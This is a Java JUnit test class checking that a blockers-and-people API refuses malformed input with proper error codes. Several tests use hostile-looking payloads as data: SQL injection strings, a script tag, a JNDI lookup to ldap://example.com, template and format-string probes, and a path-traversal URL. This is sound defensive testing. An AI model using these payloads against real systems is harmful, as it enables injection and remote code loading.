package io.eteam.web;

import static io.eteam.support.ApiErrors.assertError;
import static io.eteam.support.ApiErrors.assertInvalid;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Named.named;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.eteam.support.TestServer;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Bad input is refused with the status and error code the API promises, in the error shape,
/// naming the offending field; no input, however odd, gives a 500.
class BadInputTest {

    static final String PEOPLE = "/api/v1/people";
    static final String BLOCKERS = "/api/v1/blockers";

    static TestServer server;
    static String chair;
    static String vp;
    static String member;
    /// An open blocker raised by `vp-music`, the target of edits.
    static long blockerId;

    @BeforeAll
    static void start() {
        server = TestServer.start();
        chair = server.chairToken;
        vp = server.add("vp-music", "vp");
        member = server.add("staff", "member");
        server.add("vp-legal", "vp");
        server.add("gone", "vp");
        server.app.people().deactivate(server.chair(), "gone");
        blockerId = raise("""
                {"title": "Licensing blocks the Brazil launch", "kind": "blocked"}""").path("id").asLong();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    static Arguments refused(String why, String body, String field) {
        return arguments(named(why, body), field);
    }

    static Stream<Arguments> badPeople() {
        return Stream.of(
                refused("an uppercase handle", """
                        {"handle": "Ana", "name": "Ana", "role": "vp"}""", "handle"),
                refused("a one-character handle", """
                        {"handle": "a", "name": "Ana", "role": "vp"}""", "handle"),
                refused("a 33-character handle", """
                        {"handle": "%s", "name": "Ana", "role": "vp"}""".formatted("a".repeat(33)), "handle"),
                refused("a handle with a space", """
                        {"handle": "ana maria", "name": "Ana", "role": "vp"}""", "handle"),
                refused("a handle with an underscore", """
                        {"handle": "ana_maria", "name": "Ana", "role": "vp"}""", "handle"),
                refused("a handle with a NUL", """
                        {"handle": "an\\u0000a", "name": "Ana", "role": "vp"}""", "handle"),
                refused("a missing handle", """
                        {"name": "Ana", "role": "vp"}""", "handle"),
                refused("a handle that is not text", """
                        {"handle": {"a": 1}, "name": "Ana", "role": "vp"}""", "handle"),
                refused("a name that is a number", """
                        {"handle": "ana", "name": 42, "role": "vp"}""", "name"),
                refused("a missing name", """
                        {"handle": "ana", "role": "vp"}""", "name"),
                refused("a blank name", """
                        {"handle": "ana", "name": "   ", "role": "vp"}""", "name"),
                refused("a name with a NUL", """
                        {"handle": "ana", "name": "A\\u0000na", "role": "vp"}""", "name"),
                refused("a name with a control character", """
                        {"handle": "ana", "name": "A\\u001bna", "role": "vp"}""", "name"),
                refused("a name with a lone surrogate", """
                        {"handle": "ana", "name": "Ana \\ud800", "role": "vp"}""", "name"),
                refused("a missing role", """
                        {"handle": "ana", "name": "Ana"}""", "role"),
                refused("a role that is not chair, vp or member", """
                        {"handle": "ana", "name": "Ana", "role": "admin"}""", "role"),
                refused("a role in capitals", """
                        {"handle": "ana", "name": "Ana", "role": "VP"}""", "role"),
                refused("a team with a lone surrogate", """
                        {"handle": "ana", "name": "Ana", "role": "vp", "team": "\\udc00"}""", "team"),
                refused("an unknown field", """
                        {"handle": "ana", "name": "Ana", "role": "vp", "email": "ana@example.com"}""", "email"));
    }

    @ParameterizedTest(name = "adding a person with {0} is refused")
    @MethodSource("badPeople")
    void adding_a_person_with_a_bad_field_is_refused_with_400_naming_the_field(String body, String field) {
        assertInvalid(server.http.post(PEOPLE, chair, body), field);
    }

    @Test
    void adding_a_person_whose_handle_is_taken_is_refused_with_409_conflict() {
        var refused = server.http.post(PEOPLE, chair, """
                {"handle": "vp-music", "name": "Another Music VP", "role": "vp"}""");

        assertError(refused, 409, "conflict");
        assertThat(refused.json().path("message").asText()).contains("vp-music");
    }

    @Test
    void a_handle_of_exactly_2_or_32_characters_is_accepted() {
        assertThat(server.http.post(PEOPLE, chair, """
                {"handle": "ab", "name": "Ab", "role": "member"}""").status()).isEqualTo(201);
        assertThat(server.http.post(PEOPLE, chair, """
                {"handle": "%s", "name": "Long", "role": "member"}""".formatted("a-1".repeat(10) + "zz")).status()).isEqualTo(201);
    }

    static Stream<Arguments> badBlockers() {
        return Stream.of(
                refused("a missing title", """
                        {"kind": "blocked"}""", "title"),
                refused("an empty title", """
                        {"title": "", "kind": "blocked"}""", "title"),
                refused("a blank title", """
                        {"title": " \\t  ", "kind": "blocked"}""", "title"),
                refused("a null title", """
                        {"title": null, "kind": "blocked"}""", "title"),
                refused("a 201-character title", """
                        {"title": "%s", "kind": "blocked"}""".formatted("x".repeat(201)), "title"),
                refused("a 201-emoji title", """
                        {"title": "%s", "kind": "blocked"}""".formatted("😀".repeat(201)), "title"),
                refused("a title with a NUL", """
                        {"title": "Brazil\\u0000launch", "kind": "blocked"}""", "title"),
                refused("a title with a bell character", """
                        {"title": "Brazil\\u0007launch", "kind": "blocked"}""", "title"),
                refused("a title with a line break", """
                        {"title": "Brazil\\nlaunch", "kind": "blocked"}""", "title"),
                refused("a title with a lone high surrogate", """
                        {"title": "Brazil \\ud800 launch", "kind": "blocked"}""", "title"),
                refused("a title with a lone low surrogate", """
                        {"title": "\\udfff", "kind": "blocked"}""", "title"),
                refused("a title that is a number", """
                        {"title": 5, "kind": "blocked"}""", "title"),
                refused("a title that is a boolean", """
                        {"title": true, "kind": "blocked"}""", "title"),
                refused("a title that is an object", """
                        {"title": {"text": "Brazil"}, "kind": "blocked"}""", "title"),
                refused("a title that is a list", """
                        {"title": ["Brazil"], "kind": "blocked"}""", "title"),
                refused("a 4001-character detail", """
                        {"title": "Brazil", "detail": "%s", "kind": "blocked"}""".formatted("d".repeat(4001)), "detail"),
                refused("a detail with a NUL", """
                        {"title": "Brazil", "detail": "line\\u0000", "kind": "blocked"}""", "detail"),
                refused("a detail with a lone surrogate", """
                        {"title": "Brazil", "detail": "\\ud83d", "kind": "blocked"}""", "detail"),
                refused("a missing kind", """
                        {"title": "Brazil"}""", "kind"),
                refused("a kind that does not exist", """
                        {"title": "Brazil", "kind": "stuck"}""", "kind"),
                refused("a kind in capitals", """
                        {"title": "Brazil", "kind": "BLOCKED"}""", "kind"),
                refused("an impact that does not exist", """
                        {"title": "Brazil", "kind": "blocked", "impact": "urgent"}""", "impact"),
                refused("an empty impact", """
                        {"title": "Brazil", "kind": "blocked", "impact": ""}""", "impact"),
                refused("4 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 4}""", "minutes"),
                refused("61 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 61}""", "minutes"),
                refused("-10 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": -10}""", "minutes"),
                refused("10.5 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 10.5}""", "minutes"),
                refused("minutes as words", """
                        {"title": "Brazil", "kind": "blocked", "minutes": "ten"}""", "minutes"),
                refused("minutes as a boolean", """
                        {"title": "Brazil", "kind": "blocked", "minutes": true}""", "minutes"),
                refused("minutes as a string of digits", """
                        {"title": "Brazil", "kind": "blocked", "minutes": "10"}""", "minutes"),
                refused("minutes as an empty string", """
                        {"title": "Brazil", "kind": "blocked", "minutes": ""}""", "minutes"),
                refused("1e309 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 1e309}""", "minutes"),
                refused("99999999999999999999 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 99999999999999999999}""", "minutes"),
                refused("2147483648 minutes", """
                        {"title": "Brazil", "kind": "blocked", "minutes": 2147483648}""", "minutes"),
                refused("blocking an unknown handle", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "nobody"}""", "blocking"),
                refused("blocking a member", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "staff"}""", "blocking"),
                refused("blocking a deactivated VP", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "gone"}""", "blocking"),
                refused("blocking a lone surrogate", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "\\ud800"}""", "blocking"),
                refused("blocking a NUL", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "\\u0000"}""", "blocking"),
                refused("blocking a 5000-character handle", """
                        {"title": "Brazil", "kind": "blocked", "blocking": "%s"}""".formatted("b".repeat(5000)), "blocking"),
                refused("an unknown field", """
                        {"title": "Brazil", "kind": "blocked", "color": "red"}""", "color"),
                refused("a field that cannot be set when raising", """
                        {"title": "Brazil", "kind": "blocked", "status": "resolved"}""", "status"));
    }

    @ParameterizedTest(name = "raising a blocker with {0} is refused")
    @MethodSource("badBlockers")
    void raising_a_blocker_with_a_bad_field_is_refused_with_400_naming_the_field(String body, String field) {
        assertInvalid(server.http.post(BLOCKERS, vp, body), field);
    }

    static Stream<Arguments> badEdits() {
        return Stream.of(
                refused("an empty title", """
                        {"title": ""}""", "title"),
                refused("a null title", """
                        {"title": null}""", "title"),
                refused("a 201-character title", """
                        {"title": "%s"}""".formatted("x".repeat(201)), "title"),
                refused("a title that is a number", """
                        {"title": 5}""", "title"),
                refused("a title with a lone surrogate", """
                        {"title": "\\ud800"}""", "title"),
                refused("a 4001-character detail", """
                        {"detail": "%s"}""".formatted("d".repeat(4001)), "detail"),
                refused("a null kind", """
                        {"kind": null}""", "kind"),
                refused("a kind that does not exist", """
                        {"kind": "stuck"}""", "kind"),
                refused("an impact that does not exist", """
                        {"impact": "urgent"}""", "impact"),
                refused("4 minutes", """
                        {"minutes": 4}""", "minutes"),
                refused("61 minutes", """
                        {"minutes": 61}""", "minutes"),
                refused("10.5 minutes", """
                        {"minutes": 10.5}""", "minutes"),
                refused("minutes as words", """
                        {"minutes": "ten"}""", "minutes"),
                refused("minutes as a string of digits", """
                        {"minutes": "10"}""", "minutes"),
                refused("null minutes", """
                        {"minutes": null}""", "minutes"),
                refused("1e309 minutes", """
                        {"minutes": 1e309}""", "minutes"),
                refused("99999999999999999999 minutes", """
                        {"minutes": 99999999999999999999}""", "minutes"),
                refused("blocking an unknown handle", """
                        {"blocking": "nobody"}""", "blocking"),
                refused("blocking a member", """
                        {"blocking": "staff"}""", "blocking"),
                refused("blocking a lone surrogate", """
                        {"blocking": "\\ud800"}""", "blocking"),
                refused("an unknown field", """
                        {"color": "red"}""", "color"),
                refused("a field that is not edited this way", """
                        {"status": "resolved"}""", "status"));
    }

    @ParameterizedTest(name = "editing a blocker with {0} is refused")
    @MethodSource("badEdits")
    void editing_a_blocker_with_a_bad_field_is_refused_with_400_naming_the_field(String body, String field) {
        var before = server.http.get(BLOCKERS + "/" + blockerId, vp).json();

        var refused = server.http.patch(BLOCKERS + "/" + blockerId, vp, body);

        assertError(refused, 400, "invalid_request");
        assertThat(refused.json().path("field").asText()).isEqualTo(field);
        assertThat(server.http.get(BLOCKERS + "/" + blockerId, vp).json()).isEqualTo(before);
    }

    @Test
    void a_title_of_200_emoji_is_accepted_because_length_counts_characters_not_utf16_units() {
        var title = "🚀".repeat(200);

        var raised = server.http.post(BLOCKERS, vp, """
                {"title": "%s", "kind": "blocked"}""".formatted(title));

        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        assertThat(raised.json().path("title").asText()).isEqualTo(title);
        var id = raised.json().path("id").asLong();
        assertThat(server.http.get(BLOCKERS + "/" + id, member).json().path("title").asText()).isEqualTo(title);
    }

    /// PostgreSQL refuses a b-tree index row over about 2,700 bytes, and the SLA report's covering
    /// index (`blocker_report_ix`) holds the title, the team and the handles: the widest row a
    /// client can make must still go in, on H2 and on PostgreSQL alike.
    @Test
    void the_widest_blocker_a_client_can_raise_fits_every_index_and_reaches_the_sla_report() {
        var team = "🚀".repeat(200);
        var widest = "w".repeat(32);
        var person = server.http.post(PEOPLE, chair, """
                {"handle": "%s", "name": "%s", "role": "vp", "team": "%s"}""".formatted(widest, "🚀".repeat(200), team));
        assertThat(person.status()).as(person.body()).isEqualTo(201);
        var token = person.json().path("token").asText();
        var blocking = "b".repeat(32);
        assertThat(server.http.post(PEOPLE, chair, """
                {"handle": "%s", "name": "Blocking", "role": "vp"}""".formatted(blocking)).status()).isEqualTo(201);
        var title = "🚀".repeat(200);

        var raised = server.http.post(BLOCKERS, token, """
                {"title": "%s", "kind": "off-track", "impact": "high", "blocking": "%s"}""".formatted(title, blocking));

        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        assertThat(raised.json().path("team").asText()).isEqualTo(team);
        // Around the raise in any zone: the installation's (Europe/Stockholm) is a day ahead of
        // UTC's date from 22:00 or 23:00 UTC.
        var today = java.time.LocalDate.now(java.time.ZoneOffset.UTC);
        var report = server.http.get("/api/v1/reports/sla?from=" + today.minusDays(1) + "&to=" + today.plusDays(1), chair);
        assertThat(report.status()).as(report.body()).isEqualTo(200);
        assertThat(report.body()).contains(title);
    }

    @Test
    void a_detail_of_4000_emoji_is_accepted() {
        var detail = "👩🏽".repeat(2000);

        var raised = server.http.post(BLOCKERS, vp, """
                {"title": "Long story", "detail": "%s", "kind": "blocked"}""".formatted(detail));

        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        assertThat(raised.json().path("detail").asText()).isEqualTo(detail);
    }

    static Stream<Arguments> notAnObject() {
        return Stream.of(
                arguments(named("malformed JSON", "{\"title\": ")),
                arguments(named("an empty body", "")),
                arguments(named("only spaces", "   \n ")),
                arguments(named("a JSON array", "[{\"title\": \"Brazil\", \"kind\": \"blocked\"}]")),
                arguments(named("null", "null")),
                arguments(named("a JSON string", "\"Brazil\"")),
                arguments(named("a JSON number", "42")),
                arguments(named("two objects", "{} {}")),
                arguments(named("single quotes", "{'title': 'Brazil'}")),
                arguments(named("unquoted names", "{title: \"Brazil\"}")),
                arguments(named("a comment", "/* hi */ {}")),
                arguments(named("NaN", "{\"minutes\": NaN}")),
                arguments(named("a raw control character in a string", "{\"title\": \"a\u0001b\", \"kind\": \"blocked\"}")),
                arguments(named("a raw NUL", "{\"title\": \"a\u0000b\"}")),
                arguments(named("a bad escape", "{\"title\": \"\\x41\"}")),
                arguments(named("a truncated unicode escape", "{\"title\": \"\\ud8\"}")),
                arguments(named("form data", "title=Brazil&kind=blocked")),
                arguments(named("a number of 2000 digits", "{\"minutes\": " + "9".repeat(2000) + "}")),
                arguments(named("arrays nested 20000 deep", "{\"title\": " + "[".repeat(20000) + "]".repeat(20000) + "}")),
                arguments(named("objects nested 5000 deep", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000))),
                arguments(named("unclosed nesting", "[".repeat(30000))));
    }

    @ParameterizedTest(name = "adding a person with {0} is refused")
    @MethodSource("notAnObject")
    void adding_a_person_with_a_body_that_is_not_a_json_object_is_refused_with_400(String body) {
        assertInvalid(server.http.post(PEOPLE, chair, body), "body");
    }

    @ParameterizedTest(name = "raising a blocker with {0} is refused")
    @MethodSource("notAnObject")
    void raising_a_blocker_with_a_body_that_is_not_a_json_object_is_refused_with_400(String body) {
        assertInvalid(server.http.post(BLOCKERS, vp, body), "body");
    }

    @ParameterizedTest(name = "editing a blocker with {0} is refused")
    @MethodSource("notAnObject")
    void editing_a_blocker_with_a_body_that_is_not_a_json_object_is_refused_with_400(String body) {
        assertInvalid(server.http.patch(BLOCKERS + "/" + blockerId, vp, body), "body");
    }

    @Test
    void a_request_without_a_body_is_refused_with_400() {
        assertInvalid(server.http.post(PEOPLE, chair, null), "body");
        assertInvalid(server.http.post(BLOCKERS, vp, null), "body");
        assertInvalid(server.http.patch(BLOCKERS + "/" + blockerId, vp, null), "body");
    }

    @Test
    void a_body_that_is_not_utf8_is_refused_with_400() {
        var bytes = new byte[] {'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xED, (byte) 0xA0,
                (byte) 0x80, (byte) 0xFF, '"', ',', '"', 'k', 'i', 'n', 'd', '"', ':', '"', 'b', 'l', 'o', 'c', 'k', 'e', 'd', '"', '}'};
        var request = server.http.request("POST", BLOCKERS, vp, HttpRequest.BodyPublishers.ofByteArray(bytes))
                .header("Content-Type", "application/json")
                .build();

        assertInvalid(server.http.exchange(request), "body");
    }

    static Stream<Arguments> writes() {
        return Stream.of(
                arguments("POST", PEOPLE),
                arguments("POST", BLOCKERS),
                arguments("PATCH", BLOCKERS + "/{id}"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("writes")
    void a_body_over_64_kib_is_refused_with_413_too_large(String method, String path) {
        var body = "{\"title\": \"" + "x".repeat(64 * 1024) + "\", \"kind\": \"blocked\"}";

        assertError(server.http.send(method, path.replace("{id}", Long.toString(blockerId)), chair, body), 413, "too_large");
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("writes")
    void a_body_over_64_kib_sent_in_chunks_without_a_length_is_refused_with_413_too_large(String method, String path) {
        var bytes = ("{\"title\": \"" + "x".repeat(200 * 1024) + "\", \"kind\": \"blocked\"}").getBytes(StandardCharsets.UTF_8);
        var request = server.http.request(method, path.replace("{id}", Long.toString(blockerId)), chair,
                        HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes)))
                .header("Content-Type", "application/json")
                .build();

        assertError(server.http.exchange(request), 413, "too_large");
    }

    @Test
    void a_body_just_under_64_kib_is_read_and_judged_on_its_fields() {
        var body = "{\"title\": \"" + "x".repeat(60 * 1024) + "\", \"kind\": \"blocked\"}";

        assertInvalid(server.http.post(BLOCKERS, vp, body), "title");
    }

    @Test
    void an_unknown_blocker_id_is_404_not_found() {
        assertError(server.http.get(BLOCKERS + "/999999", member), 404, "not_found");
        assertError(server.http.patch(BLOCKERS + "/999999", vp, "{\"title\": \"x\"}"), 404, "not_found");
        assertError(server.http.get(BLOCKERS + "/" + Long.MAX_VALUE, member), 404, "not_found");
    }

    @ParameterizedTest(name = "blocker id ''{0}''")
    @ValueSource(strings = {"abc", "0", "-1", "1.5", "1e3", "0x10", "99999999999999999999", "%20", "%F0%9F%9A%80", "1%0A"})
    void a_blocker_id_that_is_not_a_positive_whole_number_is_refused_with_400(String id) {
        assertInvalid(server.http.get(BLOCKERS + "/" + id, member), "id");
        assertInvalid(server.http.patch(BLOCKERS + "/" + id, vp, "{\"title\": \"x\"}"), "id");
    }

    @Test
    void re_tokening_or_deactivating_an_unknown_handle_is_404_not_found() {
        assertError(server.http.post(PEOPLE + "/nobody/token", chair, null), 404, "not_found");
        assertError(server.http.delete(PEOPLE + "/nobody", chair), 404, "not_found");
    }

    @ParameterizedTest(name = "handle ''{0}''")
    @ValueSource(strings = {"%20", "A", "%3Cscript%3E", "'%3B%20DROP%20TABLE%20person%3B%20--", "%F0%9F%9A%80", "%C3%A5sa"})
    void an_odd_handle_in_a_path_is_answered_404_not_found(String handle) {
        var token = server.http.post(PEOPLE + "/" + handle + "/token", chair, null);
        var deactivate = server.http.delete(PEOPLE + "/" + handle, chair);

        assertError(token, 404, "not_found");
        assertError(deactivate, 404, "not_found");
        assertThat(server.http.get(PEOPLE, chair).status()).isEqualTo(200);
    }

    static Stream<Arguments> unreadablePaths() {
        return Stream.of(
                arguments("GET", BLOCKERS + "/%00"),
                arguments("PATCH", BLOCKERS + "/%ED%A0%80"),
                arguments("POST", PEOPLE + "/%00/token"),
                arguments("DELETE", PEOPLE + "/%FF"),
                arguments("DELETE", PEOPLE + "/%ED%A0%80"),
                arguments("GET", "/api/v1/%00"),
                arguments("GET", "/api/v1/%ED%A0%80"),
                arguments("GET", BLOCKERS + "/..%2F..%2Fhealth"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("unreadablePaths")
    void a_path_with_a_nul_or_broken_utf8_is_refused_with_400_in_the_error_shape(String method, String path) {
        assertError(server.http.send(method, path, chair, method.equals("PATCH") ? "{}" : null), 400, "invalid_request");
    }

    /// Jetty closes the connection after a path it cannot read: a client that keeps connections
    /// must be told, or it sends its next request into the closed one and gets no answer. Where
    /// the server does not say so, the connection must still answer a next request.
    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("unreadablePaths")
    void after_a_path_the_server_cannot_read_the_connection_says_it_closes_or_answers_the_next_request(
            String method, String path) throws IOException {
        var url = URI.create(server.url());
        try (var socket = new Socket(url.getHost(), url.getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write((method + " " + path + " HTTP/1.1\r\nHost: eteam\r\nAuthorization: Bearer " + chair
                    + "\r\nContent-Length: 0\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            var reader = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.ISO_8859_1));
            var status = reader.readLine();
            var headers = new ArrayList<String>();
            for (var line = reader.readLine(); line != null && !line.isEmpty(); line = reader.readLine()) {
                headers.add(line.toLowerCase(java.util.Locale.ROOT));
            }
            assertThat(status).startsWith("HTTP/1.1 400");
            if (headers.contains("connection: close")) {
                return;
            }
            int length = headers.stream().filter(h -> h.startsWith("content-length:"))
                    .mapToInt(h -> Integer.parseInt(h.substring(15).strip())).findFirst().orElse(0);
            for (int i = 0; i < length; i++) {
                reader.read();   // the body is ASCII JSON: one char a byte
            }
            socket.getOutputStream().write("GET /api/v1/health HTTP/1.1\r\nHost: eteam\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            assertThat(reader.readLine()).as("the next request on the connection kept open").isEqualTo("HTTP/1.1 200 OK");
        }
    }

    @Test
    void a_url_or_headers_too_long_to_read_are_refused_in_the_error_shape() {
        var longUrl = server.http.get(BLOCKERS + "?raised_by=" + "a".repeat(20_000), chair);
        var longHeader = server.http.exchange(server.http.request("GET", BLOCKERS, chair, HttpRequest.BodyPublishers.noBody())
                .header("X-Padding", "p".repeat(20_000))
                .build());

        assertError(longUrl, 414, "too_large");
        assertError(longHeader, 431, "too_large");
    }

    @Test
    void an_unknown_field_whose_name_is_broken_unicode_is_refused_without_a_500() {
        var refused = server.http.patch(BLOCKERS + "/" + blockerId, vp, """
                {"\\ud800": 1}""");

        assertError(refused, 400, "invalid_request");
        assertThat(refused.json().path("field").isTextual()).isTrue();
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("unknownRoutes")
    void an_unknown_route_is_404_in_the_error_shape(String method, String path) {
        assertError(server.http.send(method, path, chair, null), 404, "not_found");
    }

    static Stream<Arguments> unknownRoutes() {
        return Stream.of(
                arguments("GET", "/api/v1/nothing-here"),
                arguments("GET", "/api/v2/health"),
                arguments("POST", "/api/v1/people/vp-music/nothing"),
                arguments("GET", "/api/v1/blockers/1/nothing"));
    }

    @Test
    void an_unknown_page_outside_the_api_is_404() {
        assertThat(server.http.send("GET", "/nothing-here", chair, null).status()).isEqualTo(404);
    }

    @Test
    void an_unknown_route_is_404_even_without_a_token() {
        assertError(server.http.get("/api/v1/nothing-here", null), 404, "not_found");
    }

    @ParameterizedTest(name = "status=''{0}''")
    @ValueSource(strings = {"closed", "OPEN", "%00", "%ED%A0%80", "%3Cscript%3E"})
    void listing_with_an_unknown_status_is_refused_with_400_naming_status(String status) {
        assertInvalid(server.http.get(BLOCKERS + "?status=" + status, member), "status");
    }

    static Stream<String> oddRaisers() {
        return Stream.of("nobody", "%00", "%ED%A0%80", "'%3B%20DROP%20TABLE%20blocker%3B%20--", "%FF%FE", "r".repeat(3000));
    }

    @ParameterizedTest(name = "raised_by=''{0}''")
    @MethodSource("oddRaisers")
    void listing_by_an_odd_raiser_answers_an_empty_list(String raisedBy) {
        var listed = server.http.get(BLOCKERS + "?raised_by=" + raisedBy, member);

        assertThat(listed.status()).as(listed.body()).isEqualTo(200);
        assertThat(listed.json().isArray()).isTrue();
        assertThat(listed.json()).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"'; DROP TABLE blocker; --", "<script>alert(1)</script>", "Robert'); DROP TABLE person;--",
            "\" OR 1=1 --", "${jndi:ldap://example.com/a}", "{{7*7}}", "%s%n%x", "&lt;b&gt; &amp; \\ \" /"})
    void hostile_looking_text_is_a_valid_title_stored_and_returned_verbatim(String title) {
        var raised = server.http.post(BLOCKERS, vp, """
                {"title": %s, "kind": "blocked", "detail": %s}""".formatted(quote(title), quote(title)));

        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        assertThat(raised.json().path("title").asText()).isEqualTo(title);
        var id = raised.json().path("id").asLong();
        var read = server.http.get(BLOCKERS + "/" + id, member);
        assertThat(read.json().path("title").asText()).isEqualTo(title);
        assertThat(read.json().path("detail").asText()).isEqualTo(title);
        var listed = server.http.get(BLOCKERS, member);
        assertThat(listed.status()).isEqualTo(200);
        assertThat(listed.json().findValuesAsText("title")).contains(title, "Licensing blocks the Brazil launch");
        assertThat(server.http.get(PEOPLE, member).status()).isEqualTo(200);
    }

    @Test
    void a_blocker_list_is_served_as_json_not_html() {
        server.http.post(BLOCKERS, vp, """
                {"title": "<script>alert(1)</script>", "kind": "blocked"}""");

        var listed = server.http.get(BLOCKERS, member);

        assertThat(listed.contentType()).startsWith("application/json");
    }

    /// `text` as a JSON string literal.
    private static String quote(String text) {
        return JsonNodeFactory.instance.textNode(text).toString();
    }

    private static JsonNode raise(String body) {
        var raised = server.http.post(BLOCKERS, vp, body);
        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
        return raised.json();
    }
}
